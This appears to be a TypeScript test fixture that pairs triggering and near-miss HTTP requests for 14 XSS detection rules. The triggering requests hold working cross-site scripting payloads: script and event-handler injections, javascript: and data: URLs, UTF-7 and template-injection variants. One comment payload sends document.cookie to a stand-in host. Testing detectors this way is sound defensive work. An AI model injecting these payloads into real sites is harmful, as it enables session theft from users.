import { type Case, get, post } from '../traffic.js'

/** Traffic for xss.rules. */
export const xss: readonly Case[] = [
  {
    sid: 9007001,
    fire: get('/search?q=%3Cscript%3Econfirm(document.title)%3C/script%3E'),
    nearMiss: get('/search?q=%3Cscripture'),
  },
  {
    sid: 9007002,
    fire: get('/search?q=%3Csvg/onload=top.x()%3E'),
    nearMiss: get('/search?q=%3Csvg+width=10%3E'),
  },
  {
    sid: 9007003,
    fire: get('/search?q=%3Cimg+src=x+onerror=top.x()%3E'),
    nearMiss: get('/search?q=%3Cimg+src=x%3E'),
  },
  {
    sid: 9007004,
    fire: get('/go?url=javascript:eval(name)'),
    nearMiss: get('/go?topic=javascript:the+good+parts'),
  },
  {
    sid: 9007005,
    fire: get('/search?q=%22-fetch(document.cookie)-%22'),
    nearMiss: get('/en-US/docs/Web/API/document.cookie'),
  },
  { sid: 9007006, fire: get('/search?q=%22;alert(1)//'), nearMiss: get('/docs/window.alert()') },
  {
    sid: 9007007,
    fire: get('/search?q=%3Ciframe+onload=top.x()%3E'),
    nearMiss: get('/search?q=%3Ciframe+width=1%3E'),
  },
  {
    sid: 9007008,
    fire: get('/search?q=%22+autofocus+onfocus=top.x()+a=%22'),
    nearMiss: get('/docs?attr=autofocus'),
  },
  {
    sid: 9007009,
    fire: get('/search?q=eval(String.fromCharCode(97,98))'),
    nearMiss: get('/docs/String.fromCharCode()'),
  },
  { sid: 9007010, fire: get('/go?url=data:text/html;base64,PGI+'), nearMiss: get('/mime?data:text/html') },
  {
    sid: 9007011,
    fire: get('/search?q=+ADw-script+AD4-x()+ADw-/script+AD4-'),
    nearMiss: get('/search?q=+ADw-b+AD4-'),
  },
  {
    sid: 9007012,
    fire: get('/?q=%7B%7Bconstructor.constructor(%27x%27)()%7D%7D'),
    nearMiss: get('/docs/constructor.constructor'),
  },
  {
    sid: 9007013,
    fire: get('/', { Referer: 'https://www.example.com/<script>x()</script>' }),
    nearMiss: get('/', { Referer: 'https://www.example.com/<scripts' }),
  },
  {
    sid: 9007014,
    fire: post('/comment', 'text=<script>new Image().src="//203.0.113.9/"+document.cookie</script>'),
    nearMiss: post('/comment', 'text=<script>console.log(1)</script>'),
  },
]
